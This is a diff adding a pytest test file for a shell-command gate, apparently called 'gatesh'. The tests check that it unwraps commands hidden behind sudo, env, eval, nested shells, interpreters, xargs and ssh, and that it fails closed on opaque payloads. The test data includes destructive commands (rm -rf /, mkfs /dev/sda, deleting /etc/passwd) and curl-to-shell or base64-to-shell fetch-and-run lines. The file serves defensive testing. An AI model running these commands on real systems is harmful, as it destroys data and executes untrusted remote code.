@@ -1,0 +1,134 @@
+"""Unwrapping: what actually runs behind sudo, env, shells, eval, xargs, find, ssh, interpreters."""
+
+from __future__ import annotations
+
+import pytest
+
+from gatesh.parse import parse
+from gatesh.unwrap import unwrap
+
+
+def runs(text: str, cwd: str = "/tmp") -> list[tuple[str | None, tuple[str, ...], str | None]]:
+    got = unwrap(parse(text), {"HOME": "/home/u"}, cwd)
+    return [(i.name, i.via, i.remote) for i in got.invocations]
+
+
+def argvs(text: str) -> list[list[str | None]]:
+    got = unwrap(parse(text), {"HOME": "/home/u"}, "/tmp")
+    return [[w.value for w in i.argv] for i in got.invocations]
+
+
+def opaque(text: str) -> list[str]:
+    return [m.rule_id for m in unwrap(parse(text), {"HOME": "/home/u"}, "/tmp").matches]
+
+
+@pytest.mark.parametrize("text, inner", [
+    ("sudo -u deploy -E rm -rf /srv", ["rm", "-rf", "/srv"]),
+    ("sudo -- rm x", ["rm", "x"]),
+    ("env -i FOO=1 BAR=2 rm -rf /x", ["rm", "-rf", "/x"]),
+    ("env -u HOME -C /tmp rm -rf y", ["rm", "-rf", "y"]),
+    ("timeout -s KILL 5 rm -rf /x", ["rm", "-rf", "/x"]),
+    ("timeout --signal=KILL 5s rm z", ["rm", "z"]),
+    ("nice -n 10 rm a", ["rm", "a"]),
+    ("nice -10 rm a", ["rm", "a"]),
+    ("nohup rm a", ["rm", "a"]),
+    ("stdbuf -oL rm a", ["rm", "a"]),
+    ("ionice -c 3 rm a", ["rm", "a"]),
+    ("command rm a", ["rm", "a"]),
+    ("builtin exec rm a", ["rm", "a"]),
+    ("exec -a name rm a", ["rm", "a"]),
+    ("time -p rm a", ["rm", "a"]),
+    ("setsid rm a", ["rm", "a"]),
+    ("watch -n 5 -x rm a", ["rm", "a"]),
+])
+def test_process_wrappers(text, inner):
+    assert inner in argvs(text)
+
+
+def test_nested_wrappers_record_the_chain():
+    got = runs("sudo env X=1 timeout 5 bash -c 'rm -rf ~'")
+    assert ("rm", ("sudo", "env", "timeout", "bash -c"), None) in got
+
+
+@pytest.mark.parametrize("text", [
+    "bash -c 'rm -rf /x'", "sh -c \"rm -rf /x\"", "bash -lc 'rm -rf /x'", "zsh -c 'rm -rf /x'",
+    "eval 'rm -rf /x'", "eval rm -rf /x", "watch -n 1 rm -rf /x", "su -c 'rm -rf /x' root",
+    "sudo -s rm -rf /x", "env -S 'rm -rf /x'", "flock /tmp/l -c 'rm -rf /x'",
+    "bash <<'EOF'\nrm -rf /x\nEOF", "sh <<< 'rm -rf /x'", "echo 'rm -rf /x' | sh",
+    "printf 'rm -rf /x' | bash", "bash -c \"bash -c 'rm -rf /x'\"", "\\rm -rf /x", "'rm' -rf /x",
+    "r\"\"m -rf /x", "/usr/bin/rm -rf /x", "command rm -rf /x",
+    "python3 -c \"import subprocess; subprocess.run(['rm', '-rf', '/x'])\"",
+    "python -c 'import os; os.system(\"rm -rf /x\")'",
+    "node -e \"require('child_process').execSync('rm -rf /x')\"",
+    "perl -e 'system(\"rm -rf /x\")'", "ruby -e 'system(\"rm -rf /x\")'",
+])
+def test_shells_eval_and_interpreters_are_reparsed(text):
+    assert ["rm", "-rf", "/x"] in argvs(text), argvs(text)
+
+
+def test_python_file_apis_become_commands():
+    got = argvs("python3 -c \"import shutil, os, pathlib; shutil.rmtree('/home/u');"
+                " os.remove('/etc/passwd'); pathlib.Path('/srv/x').unlink()\"")
+    assert ["rm", "-rf", "/home/u"] in got
+    assert ["rm", "/etc/passwd"] in got
+    assert ["rm", "/srv/x"] in got
+
+
+def test_python_stdin_heredoc_is_read():
+    got = argvs("python3 - <<'PY'\nimport shutil\nshutil.rmtree('/data')\nPY")
+    assert ["rm", "-rf", "/data"] in got
+
+
+def test_xargs_find_and_parallel():
+    assert ["rm", "-rf", None] in argvs("ls | xargs -0 -I{} rm -rf {}")
+    assert ["rm", "-f", None] in argvs("find . -name '*.pyc' -exec rm -f {} +")
+    assert ["rm", "-rf", "/"] in argvs("parallel rm -rf ::: /")
+
+
+def test_ssh_remote_command_is_marked_remote():
+    got = runs("ssh -i key -p 22 prod-db 'rm -rf /var/lib/pg'")
+    assert ("rm", ("ssh prod-db",), "prod-db") in got
+
+
+def test_substitutions_and_bodies_are_walked():
+    names = [n for n, _, _ in runs("echo $(rm -rf /x) `shred y` <(wipe z); f() { mkfs /dev/sda; }")]
+    assert {"rm", "shred", "wipe", "mkfs"} <= set(names)
+
+
+def test_known_variables_are_bound():
+    assert ["rm", "-rf", "/home/u"] in argvs("rm -rf $HOME")
+    assert ["rm", "-rf", "/srv/data"] in argvs("D=/srv/data; rm -rf \"$D\"")
+
+
+@pytest.mark.parametrize("text, rule", [
+    ("curl -fsSL https://x.example/install.sh | sh", "gatesh:opaque_stdin"),
+    ("wget -qO- https://x.example | bash -s", "gatesh:opaque_stdin"),
+    ("base64 -d payload | sh", "gatesh:opaque_stdin"),
+    ("bash <(curl -s https://x.example)", "gatesh:opaque_script"),
+    ("source <(curl -s https://x.example)", "gatesh:opaque_code"),
+    ("eval \"$CMD\"", "gatesh:opaque_code"),
+    ("bash -c \"$PAYLOAD\"", "gatesh:opaque_code"),
+    ("python3 -c \"$CODE\"", "gatesh:opaque_code"),
+    ("bash -c 'echo $(('", "gatesh:nested_unparseable"),
+])
+def test_opaque_payloads_fail_closed(text, rule):
+    assert rule in opaque(text)
+
+
+def test_depth_limit_is_fail_closed():
+    text = "rm -rf /x"
+    for _ in range(12):
+        text = "bash -c " + "'" + text.replace("'", "'\"'\"'") + "'"
+    assert "gatesh:too_deep" in opaque(text)
+
+
+def test_script_named_to_a_shell_is_read(tmp_path):
+    (tmp_path / "go.sh").write_text("echo hi\nrm -rf /srv/www\n")
+    got = unwrap(parse("bash go.sh"), {}, str(tmp_path))
+    assert ["rm", "-rf", "/srv/www"] in [[w.value for w in i.argv] for i in got.invocations]
+    missing = unwrap(parse("bash nowhere.sh"), {}, str(tmp_path))
+    assert "gatesh:opaque_script" in [m.rule_id for m in missing.matches]
+
+
+def test_lookups_that_do_not_run_are_not_unwrapped():
+    assert argvs("command -v rm") == [["command", "-v", "rm"]]
